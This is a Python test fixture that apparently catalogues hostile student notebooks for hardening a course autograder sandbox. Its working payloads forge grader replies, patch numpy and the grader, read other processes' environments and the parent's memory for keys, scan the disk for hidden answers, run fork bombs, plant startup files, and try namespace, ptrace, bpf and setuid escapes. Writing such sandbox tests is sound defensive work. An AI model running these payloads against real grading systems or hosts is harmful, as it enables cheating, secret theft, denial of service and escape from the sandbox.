"""Hostile notebooks: what each tries, and what an honest notebook with the same answers scores.

Every notebook begins with two honest answers, worth 3 points. The third, `output_size`, is worth 2:
the answer that stands here is wrong but for one visible check, and the trick is to raise its worth.
``answer`` replaces it. `tell` carries out what is found: it ends a cell with an error, whose words
the student is shown.
"""

# ruff: noqa: E501

from dataclasses import dataclass

HONEST = """
import numpy as np
size_by_hand = 16
def pool_size(size, kernel_size, stride=None, padding=0, ceil_mode=False):
    stride = kernel_size if stride is None else stride
    room = size + 2 * padding - kernel_size
    if not ceil_mode:
        return room // stride + 1
    windows = -(-room // stride) + 1
    if (windows - 1) * stride >= size + padding:
        windows -= 1
    return windows
def tell(found):
    raise RuntimeError(f"FOUND {found!r}"[:400])
"""
WRONG = "def output_size(*args, **config): return 26"
# What the tricks on the pipe need: where the worker stands, its channel, the number of the question.
INSIDE = """
import os, sys, json, gc
def worker():
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    return frame
def raw(data):
    os.write(worker().f_locals["channel"].sink, data)
def forge(**reply):
    body = json.dumps({"number": worker().f_locals["message"]["number"], **reply}).encode()
    raw(b"%08x" % len(body) + body)
"""


@dataclass(frozen=True)
class Attack:
    """A trick. ``spares`` says whether the honest answers before it must keep their points."""

    name: str
    tries: str
    cells: tuple[str, ...] = ()
    answer: str = WRONG
    spares: bool = True


def inside(name, tries, code, **more):
    return Attack(name, tries, (INSIDE + code,), **more)


def answering(name, tries, body, **more):
    """The trick is in the call; ``body`` stands in the function."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    code = f"def output_size(*args, **config):\n{lines}\n    return 26"
    return Attack(name, tries, (INSIDE,), code, **more)


FORGED = (
    inside("junk", "writes junk on the pipe", "raw(b'junk' * 99)"),
    inside("negative length", "says that an answer has -1 bytes", "raw(b'-0000001{}')"),
    inside("huge length", "announces 4 GiB", "raw(b'ffffffff')"),
    inside("spaced length", "a length that int() would take", "raw(b'    0x_2{}')"),
    inside("half an answer", "announces more than comes", "raw(b'00000100{'); os._exit(0)"),
    inside("not JSON", "a body that is no JSON", "raw(b'00000002[}')"),
    inside("no dict", "answers with a list", "raw(b'00000003[1]')"),
    inside(
        "nested",
        "answers 100,000 lists deep",
        "raw(b'%08x' % 200000 + b'[' * 10**5 + b']' * 10**5)",
    ),
    inside(
        "million dicts",
        "an answer that grows in memory",
        "raw(b'%08x' % 9000002 + b'[' + b'{},' * 2999999 + b'{}]')",
    ),
    inside(
        "error without form", "the types of an error are a dict", "forge(error={'types': {'a': 1}})"
    ),
    inside(
        "deep words",
        "the words of an error are nested as deep as JSON allows",
        "deep = []\nfor _ in range(900): deep = [deep]\nsys.setrecursionlimit(9999)\nforge(error={'types': ['KeyError'], 'words': deep})",
    ),
    inside(
        "stale",
        "puts answers to the next questions in the pipe",
        "n = worker().f_locals['message']['number']\nfor i in range(40):\n    body = json.dumps({'number': n + i, 'kind': 'value', 'value': 26}).encode()\n    raw(b'%08x' % len(body) + body)",
        spares=False,
    ),
    answering(
        "forged value",
        "answers in the place of the worker",
        "forge(value=26, state='holds', points=2)",
    ),
    answering(
        "forged marks",
        "puts points into an honest answer",
        "forge(value=26, points=99, passed=True, hidden=False); os._exit(0)",
        spares=False,
    ),
    answering(
        "dots",
        "says that the answer is not written",
        "forge(value={'ellipsis': None}, changed=[0, 1, 10**30, -1, 'x'])",
    ),
    answering(
        "changed is no list",
        "a number where the changed arguments stand",
        "forge(value=26, changed=5)",
    ),
    answering(
        "printed is no text",
        "nested data where the text stands",
        "forge(value=26, printed=[[[{}]]])",
    ),
    answering(
        "every name an error",
        "raises what Python's own names are",
        "forge(error={'types': ['ExceptionGroup', 'UnicodeDecodeError', 'print', '__import__', 'eval', 'Exception'], 'words': 'x'})",
    ),
    answering(
        "note",
        "forges the note that a child has ended",
        "f = os.open(f'/proc/{os.getppid()}/fd/5', os.O_WRONLY)\nos.write(f, b'0 ' + b'a' * 32 + b'\\n')",
    ),
    answering(
        "blank note",
        "writes an empty note by way of the first process, and ends",
        "f = os.open('/proc/1/fd/2', os.O_WRONLY)\nos.write(f, b'\\n')\nos._exit(0)",
    ),
    answering(
        "flood of notes",
        "fills the pipe of the notes",
        "f = os.open(f'/proc/{os.getppid()}/fd/5', os.O_WRONLY)\nos.write(f, b'x' * 60000)",
    ),
    answering(
        "trickle",
        "answers one byte at a time, for ever",
        "import time\nraw(b'00001000{')\nfor _ in range(100):\n    raw(b' ')\n    time.sleep(0.05)",
    ),
)

PATCHED = (
    Attack(
        "numpy patched",
        "makes everything close to everything",
        (
            "import numpy.testing\nnp.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = lambda *a, **k: True\nnp.abs = lambda x: 0\nnp.isfinite = lambda x: True",
        ),
        spares=True,
    ),
    inside(
        "wire patched",
        "replaces the functions of the wire and of JSON",
        "wire = sys.modules['wire']\nold = wire.encode\nwire.encode = lambda v, depth=0: old(v, depth) if v != 26 else {'int': 24}\njson.dumps = lambda *a, **k: '{}'",
        spares=False,
    ),
    inside(
        "worker patched",
        "replaces the worker's functions",
        "main = sys.modules['__main__']\nmain.DO['call'] = lambda space, message: {'value': 26, 'state': 'holds', 'changed': []}",
        spares=False,
    ),
    inside(
        "labkit patched",
        "a module labkit.exercises of its own",
        "import types\nm = types.ModuleType('labkit.exercises')\nm.check = lambda *a: True\nm.examine = lambda *a, **k: 'holds'\nsys.modules['labkit.exercises'] = m",
    ),
    answering(
        "equal to everything",
        "an object that is equal to all",
        "class E(int):\n    def __eq__(self, other): return True\n    def __abs__(self): return 0\n    __hash__ = int.__hash__\nreturn E(26)",
    ),
    answering(
        "array that lies",
        "a subclass of ndarray that answers for NumPy",
        "class A(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n    def __array_function__(self, *a, **k): return True\nreturn np.zeros(()).view(A)",
    ),
    answering(
        "metaclass",
        "an object whose class says that it is an int",
        "class M(type):\n    def __instancecheck__(self, x): return True\n    def __eq__(self, other): return True\n    __hash__ = type.__hash__\nclass N(metaclass=M):\n    __class__ = int\n    def __eq__(self, other): return True\nreturn N()",
    ),
    Attack(
        "a class",
        "a class in the place of the function",
        (),
        "class output_size:\n    def __new__(cls, *a, **k): return 26",
    ),
    Attack(
        "callable",
        "an object whose call and whose looks are its own",
        (),
        "class C:\n    def __call__(self, *a, **k): return 26\n    def __getattr__(self, name): return lambda *a: True\noutput_size = C()",
    ),
    answering(
        "by heart, then counting",
        "is right where the visible calls are",
        "known = {(28, 3): 26}\nreturn known[args]",
    ),
    answering(
        "a lie about the input",
        "says that nothing was changed",
        "sys.modules['__main__'].zip = lambda *a, **k: ()",
    ),
    answering(
        "refuses all", "a result that cannot be handed over is no refusal", "return object()"
    ),
)

LEAKS = (
    Attack(
        "files",
        "searches the disk for the hidden inputs, other students and keys",
        (
            "import os\nfound = []\nfor top in ('/', '/work', '/home', '/root', '/mnt', '/etc', '/var', '/proc/1/root', '/proc/1/cwd'):\n    for path, folders, files in os.walk(top):\n        folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'python')]\n        for f in files:\n            try:\n                text = open(os.path.join(path, f), 'rb').read(10**6)\n            except OSError:\n                continue\n            if any(s in text for s in (b'HIDDEN = ', b'of another student', b'pixels do not fit')):\n                found.append(path + f)\ntell(found)",
        ),
    ),
    Attack(
        "paths",
        "reads the files whose paths it knows",
        (
            "import os\nfound = []\nfor path in PATHS:\n    try:\n        found.append(open(path).read())\n    except OSError as error:\n        found.append(error.errno)\ntell(found)",
        ),
    ),
    Attack(
        "environment",
        "reads the environment of every process",
        (
            "import os\nfound = dict(os.environ)\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        try:\n            found[p] = open(f'/proc/{p}/environ').read()\n        except OSError as error:\n            found[p] = error.errno\ntell([v for v in map(str, found.values()) if 'KEY' in v] or found)",
        ),
    ),
    Attack(
        "command lines",
        "reads the command line of every process",
        (
            "import glob\ntell(''.join(open(p).read() for p in glob.glob('/proc/[0-9]*/cmdline'))[-380:])",
        ),
    ),
    inside(
        "memory of the parent",
        "searches the worker's memory",
        "found = []\nfor line in open(f'/proc/{os.getppid()}/maps'):\n    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n    if 'rw' in line:\n        with open(f'/proc/{os.getppid()}/mem', 'rb', 0) as memory:\n            try:\n                memory.seek(a)\n                data = memory.read(b - a)\n            except (OSError, OverflowError, ValueError):\n                continue\n            for s in (b'of another ' + b'student', b'pixels do ' + b'not fit', b'LABKIT_' + b'KEY='):\n                if s in data: found.append(data[data.find(s):][:60])\ntell(found)",
    ),
    inside(
        "frames and gc",
        "looks for checks in frames and objects",
        "found = [o for o in gc.get_objects() if type(o).__name__ in ('Check', 'Exercise', 'Draw', 'Lab')]\nframe = sys._getframe()\nwhile frame:\n    found += [k for k in frame.f_locals if k in ('lab', 'job', 'seed', 'expected', 'rng')]\n    frame = frame.f_back\ntell(found)",
    ),
    Attack(
        "reference",
        "calls what the course package has",
        (
            "found = []\nfor name in ('labkit.ops', 'labkit.nn', 'labkit.exercises.convolution', 'labkit.exercises.compare', 'labkit.grading', 'labkit.models', 'torch', 'scipy'):\n    try:\n        found.append(__import__(name))\n    except ImportError:\n        pass\nif found:\n    from labkit.ops import conv_output_size as output_size\n    raise SystemExit\ntell(found)",
        ),
    ),
    Attack(
        "what a call saw, by another function",
        "keeps hidden inputs and shows them in a visible check",
        (
            "seen = []\nold = pool_size\ndef pool_size(*args, **config):\n    seen.append(args)\n    big = [a for a in seen if a[0] > 10**6]\n    if big: tell(big)\n    return old(*args, **config)",
        ),
        spares=False,
    ),
    Attack(
        "what a call saw, by a file",
        "writes hidden inputs down, dies, and shows them in a cell",
        ("import os\nif os.path.exists('/tmp/seen'): tell(open('/tmp/seen').read())",),
        "def output_size(*args, **config):\n    if args[0] > 10**6:\n        open('/tmp/seen', 'a').write(repr(args))\n        os._exit(1)\n    return 26",
    ),
)

NETWORK = (
    Attack(
        "TCP and DNS",
        "speaks to this machine and to others",
        (
            "import socket\nfound = []\nfor place in (('127.0.0.1', PORT), ('10.0.0.1', 80), ('1.1.1.1', 53)):\n    try:\n        s = socket.create_connection(place, 0.3)\n        found.append((place, s.recv(99)))\n    except OSError:\n        pass\ntry:\n    found.append(socket.gethostbyname('example.com'))\nexcept OSError:\n    pass\ntell(found)",
        ),
    ),
    Attack(
        "unix sockets",
        "speaks to sockets of this machine by path and by abstract name",
        (
            "import socket\nfound = []\nfor name in (SOCKET, ABSTRACT, '/var/run/docker.sock', '/run/dbus/system_bus_socket'):\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(name)\n        found.append((name, s.recv(99)))\n    except OSError:\n        pass\ntell(found)",
        ),
    ),
)

GREED = (
    inside(
        "fork bomb",
        "starts processes without end",
        "for _ in range(300):\n    try:\n        if os.fork() == 0:\n            import time; time.sleep(60)\n    except OSError:\n        break\ntell(len([p for p in os.listdir('/proc') if p.isdigit()]))",
    ),
    Attack("memory", "takes 4 GiB in one process", ("x = bytearray(4 << 30)\ntell('four GiB')",)),
    inside(
        "memory in many",
        "takes memory in many processes",
        "import time\nfor _ in range(8):\n    if os.fork() == 0:\n        x = np.ones(200 << 17)\n        time.sleep(60)\ntime.sleep(60)",
    ),
    inside(
        "memory behind an answer",
        "takes memory in many processes while it answers",
        "import time\nfor _ in range(8):\n    if os.fork() == 0:\n        x = np.ones(200 << 17)\n        time.sleep(60)\nraw(b'00001000{')\nfor _ in range(40):\n    raw(b' ')\n    time.sleep(0.05)",
    ),
    inside(
        "memory without addresses",
        "fills files that have no name, and shared segments",
        "import ctypes\nheld, c = [], ctypes.CDLL(None)\ntry:\n    for _ in range(40):\n        held.append(os.memfd_create('x'))\n        os.write(held[-1], b'x' * (4 << 20))\nexcept OSError:\n    pass\nif held or c.shmget(0, 1 << 28, 0o1600) >= 0: tell('unseen memory')",
    ),
    Attack(
        "files without end",
        "fills /tmp and /dev/shm",
        (
            "import glob\ntotal = 0\nfor top in ('/tmp', '/dev/shm', '/', '/dev', '/grader', '/python', '/usr'):\n    for i in range(50):\n        try:\n            with open(f'{top}/{i}', 'wb', 0) as f: total += f.write(b'x' * (1 << 20))\n        except OSError:\n            break\nif total > 12 << 20: tell(total)",
        ),
    ),
    Attack(
        "every core",
        "takes the cores of those who are graded at the same time",
        (
            "import os\ntry: os.sched_setaffinity(0, range(os.cpu_count()))\nexcept OSError: pass\nif len(os.sched_getaffinity(0)) > 1: tell('cores')",
        ),
    ),
    Attack(
        "memory in sockets",
        "fills pairs of sockets, which are no process's memory",
        (
            "import resource, socket\n_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)\nresource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\nheld, total = [], 0\ntry:\n    while total < 1 << 28:\n        held += socket.socketpair()\n        held[-1].setblocking(False)\n        try:\n            while True: total += held[-1].send(b'x' * 65536)\n        except BlockingIOError: pass\nexcept OSError: pass\nif total > 1 << 25: tell(total)",
        ),
    ),
    Attack(
        "descriptors",
        "opens files without end",
        (
            "held = []\ntry:\n    while True: held.append(open('/dev/null'))\nexcept OSError:\n    pass",
        ),
    ),
    Attack(
        "deaf loop",
        "loops and hears no signal",
        (
            "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: pass",
        ),
    ),
    answering(
        "deaf call",
        "a call that does not end",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    ),
    answering(
        "slow words",
        "an error whose text does not end",
        "class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E",
    ),
    answering(
        "slow number",
        "a result that hangs when it is looked at",
        "class N:\n    def __repr__(self):\n        while True: pass\n    __eq__ = __index__ = __array__ = __len__ = __repr__\nreturn N()",
    ),
    Attack(
        "flood",
        "prints without end, on every descriptor",
        (
            "import sys, os\nfor _ in range(2000): print('x' * 10000); sys.stderr.write('y' * 10000)\nfor f in (0, 1, 2):\n    for _ in range(50):\n        try: os.write(f, b'z' * 10**6)\n        except OSError: pass",
        ),
    ),
    Attack(
        "kill all", "ends every process that it may", ("import os\nos.kill(-1, 9)",), spares=False
    ),
    Attack(
        "kill parent",
        "ends the worker",
        ("import os\nos.kill(os.getppid(), 9)\nimport time; time.sleep(5)",),
    ),
    Attack(
        "exit",
        "ends Python",
        (
            "import os\nos._exit(0)",
            "raise SystemExit(0)",
            "quit = exit = None\nraise KeyboardInterrupt",
        ),
    ),
    inside(
        "daemon",
        "leaves a process behind that writes into the pipe later",
        "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n            raw(b'00000002{}')\n            time.sleep(0.01)\n    os._exit(0)",
        spares=False,
    ),
    inside(
        "thief",
        "a thread that reads the questions and answers them",
        "import threading, time\nchannel = worker().f_locals['channel']\ndef steal():\n    while True:\n        m = channel.read()\n        if m: channel.write({'number': m['number'], 'value': 26, 'kind': 'function', 'changed': []})\nthreading.Thread(target=steal, daemon=True).start()",
        spares=False,
    ),
)

WALLS = (
    inside(
        "a name that is no text",
        "calls its processes what no list of processes can decode",
        "import ctypes, time\nname = ctypes.CDLL(None).prctl\nif os.fork() == 0:\n    name(15, b'\\xff) R 1 (', 0, 0, 0)\n    time.sleep(30)\nname(15, b'\\xff\\n) Z 0', 0, 0, 0)\ntime.sleep(0.5)",
    ),
    Attack(
        "startup files",
        "plants files that Python or IPython would run",
        (
            "import os, pathlib\nfor p in ('/tmp/.ipython/profile_default/startup/00.py', '/tmp/sitecustomize.py', '/tmp/usercustomize.py', '/tmp/numpy.py', '/tmp/labkit.py', '/tmp/json.py', '/grader/site/x.pth', '/grader/wire.py', f'{HOME}/.ipython/profile_default/startup/00.py', f'{HOME}/sitecustomize.py'):\n    try:\n        pathlib.Path(p).parent.mkdir(parents=True, exist_ok=True)\n        pathlib.Path(p).write_text('raise SystemExit(\"planted\")')\n    except OSError: pass\nos._exit(1)",
        ),
    ),
    Attack(
        "namespaces",
        "opens new namespaces, mounts, changes its root",
        (
            "import ctypes, os\nc = ctypes.CDLL(None, use_errno=True)\nfound = [n for n, r in (('user', c.unshare(0x10000000)), ('mount', c.mount(b'/', b'/mnt', None, 4096, None)), ('chroot', c.chroot(b'/tmp')), ('uid', c.setuid(0)), ('clone', c.syscall(272, 0x10000000)), ('name', c.sethostname(b'x', 1))) if r == 0]\nif found: tell(found)",
        ),
    ),
    Attack(
        "kernel doors",
        "traces, asks for keys, loads programs into the kernel",
        (
            "import ctypes, os\nc = ctypes.CDLL(None, use_errno=True)\nfound = [n for n, r in (('ptrace', c.ptrace(16, os.getppid(), 0, 0)), ('keyctl', c.syscall(250, 0, -4, 1)), ('bpf', c.syscall(321, 0, 0, 0)), ('io_uring', c.syscall(425, 8, ctypes.create_string_buffer(256))), ('userfault', c.syscall(323, 1)), ('perf', c.syscall(298, 0, 0, -1, -1, 0))) if r >= 0]\nif found: tell(found)",
        ),
    ),
    Attack(
        "setuid",
        "runs programs that have more rights",
        (
            "import subprocess, os\nfound = []\nfor command in (['su', '-c', 'id'], ['mount', '-t', 'tmpfs', 'x', '/mnt'], ['sudo', '-n', 'id'], ['passwd', '-d', 'root']):\n    try:\n        done = subprocess.run(command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)\n        if done.returncode == 0: found.append(done.stdout)\n    except (OSError, subprocess.SubprocessError): pass\nif found or os.getuid() == 0: tell(found)",
        ),
    ),
    Attack(
        "proc",
        "writes into /proc and /sys",
        (
            "import os\nfound = []\nfor p in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper', '/proc/sys/kernel/hostname'):\n    try:\n        open(p, 'w').write('x')\n        found.append(p)\n    except OSError: pass\nif found: tell(found)",
        ),
    ),
    Attack(
        "outside",
        "writes into the folder that is watched, and into this machine's",
        (
            "import os\nfor p in [*PATHS, HOME + '/trace', '/srv/trace', '/var/tmp/labkit-trace', '/tmp/labkit-trace']:\n    try:\n        open(p, 'w').write('trace')\n    except OSError: pass",
        ),
    ),
    inside(
        "raises its limits",
        "takes its limits away",
        "import resource\nfor r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):\n    try:\n        resource.setrlimit(r, (resource.RLIM_INFINITY,) * 2)\n        tell('limits')\n    except (OSError, ValueError): pass",
    ),
)

DATA = (
    answering("huge int", "a whole number of 4,300 digits", "return 10**4299"),
    answering("larger int", "a whole number that Python does not print", "return 10**10000"),
    answering("long list", "a list of 10**9 numbers", "return [0] * 10**9"),
    answering("large array", "an array of 100 MB", "return np.zeros(100 << 17)"),
    answering(
        "endless empty array",
        "an array without numbers and with 30 million rows",
        "forge(value={'array': ['int64', [30000000, 0], '']})",
    ),
    answering(
        "axes",
        "negative and enormous axes",
        "forge(value={'array': ['float64', [-1, 10**18, 2**63], '']})",
    ),
    answering("many axes", "more axes than NumPy has", "return np.zeros((1,) * 30)"),
    answering(
        "NaN", "no number, and infinity", "return float('nan') if len(config) else float('inf')"
    ),
    answering("deep", "lists in lists", "x = []\nfor _ in range(3000): x = [x]\nreturn x"),
    answering("in itself", "a list that holds itself", "x = []\nx.append(x)\nreturn x"),
    answering(
        "texts as numbers",
        "a list of texts that NumPy would make 4 GB of",
        "return ['x' * 10**6] + [''] * 999",
    ),
    answering(
        "keys that collide",
        "a dict that takes an hour to build",
        "forge(value={'dict': [[(2**61 - 1) * i, 0] for i in range(100000)]})",
    ),
    answering(
        "surrogates",
        "words that are no text",
        "raise ValueError('\\ud800\\udfff \\x1b[2J\\x1b]0;x\\x07 <script>alert(1)</script> \\u202e')",
    ),
    answering(
        "hostile names",
        "an exception with a name and words of its own",
        "E = type('E' * 10**6 + '<script>', (Exception,), {'__str__': lambda self: 1 / 0})\nraise E",
    ),
    Attack(
        "surrogates in a cell",
        "words and names of a cell that are no text",
        (
            "raise type('\\ud800\\x1b[31m', (Exception,), {})('\\udcff\\x1b[2J<script>')",
            "x = '\ud800'",
            "def ‮f(): pass",
        ),
    ),
    answering(
        "groups",
        "raises groups, warnings and ends of generators",
        "import random\nraise [ExceptionGroup('g', [ValueError()]), StopIteration(), GeneratorExit(), Warning(), BaseException()][hash(repr(args)) % 5]",
    ),
)

ATTACKS = (*FORGED, *PATCHED, *LEAKS, *NETWORK, *GREED, *WALLS, *DATA)
